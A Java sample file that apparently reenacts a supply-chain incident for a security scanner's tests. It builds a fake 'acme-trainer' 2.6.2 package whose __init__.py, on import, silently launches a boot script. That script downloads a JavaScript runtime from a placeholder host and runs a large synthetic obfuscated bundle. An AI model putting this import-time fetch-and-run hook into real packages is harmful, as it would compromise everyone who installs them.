package dev.gatehouse.samples.incident;

import java.util.LinkedHashMap;
import java.util.Map;

/** Lightning 2.6.2: fetches a JavaScript runtime at import and runs an obfuscated script in it. */
final class Lightning {
  /** That of the incident: limits on the size of what is read are part of what is measured. */
  private static final int SCRIPT_LENGTH = 11 << 20;

  private static final String INIT_END =
      """


      def _start_engine():
          import os
          import subprocess
          import sys
          import threading

          def work():
              here = os.path.dirname(os.path.abspath(__file__))
              engine = os.path.join(here, "_engine")
              subprocess.Popen(
                  [sys.executable, os.path.join(engine, "boot.py")],
                  executable="true",
                  cwd=engine,
                  stdout=subprocess.DEVNULL,
                  stderr=subprocess.DEVNULL,
              )

          threading.Thread(target=work, daemon=True).start()


      _start_engine()
      """;

  private static final String BOOT =
      """
      import os
      import platform
      import shutil
      import subprocess
      import tempfile
      import urllib.request
      import zipfile

      VERSION = "1.3.13"
      RELEASES = "https://downloads.runtime.invalid/bun/releases/download/bun-v" + VERSION
      SCRIPT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "bundle.js")


      def asset():
          machine = {"x86_64": "x64", "AMD64": "x64", "arm64": "aarch64", "aarch64": "aarch64"}
          system = {"Linux": "linux", "Darwin": "darwin", "Windows": "windows"}
          return "bun-%s-%s.zip" % (system[platform.system()], machine[platform.machine()])


      def runtime():
          present = shutil.which("bun")
          if present:
              return present
          folder = tempfile.mkdtemp()
          archive = os.path.join(folder, asset())
          urllib.request.urlretrieve(RELEASES + "/" + asset(), archive)
          with zipfile.ZipFile(archive) as packed:
              packed.extractall(folder)
          program = os.path.join(folder, asset()[:-4], "bun")
          os.chmod(program, 0o755)
          return program


      def main():
          try:
              subprocess.run([runtime(), "run", SCRIPT], executable="true", check=False)
          except Exception:
              pass


      if __name__ == "__main__":
          main()
      """;

  private Lightning() {}

  static Reenactment runtime() {
    Map<String, String> carriers = new LinkedHashMap<>();
    carriers.put("acme_trainer/__init__.py", BenignPackage.init("2.6.2") + INIT_END);
    carriers.put("acme_trainer/_engine/boot.py", BOOT);
    carriers.put(
        "acme_trainer/_engine/bundle.js", ObfuscatedScript.ofLength(SCRIPT_LENGTH, 20_260_430));
    return Reenactment.ofTexts("lightning 2.6.2", "acme-trainer", "2.6.2", carriers);
  }
}
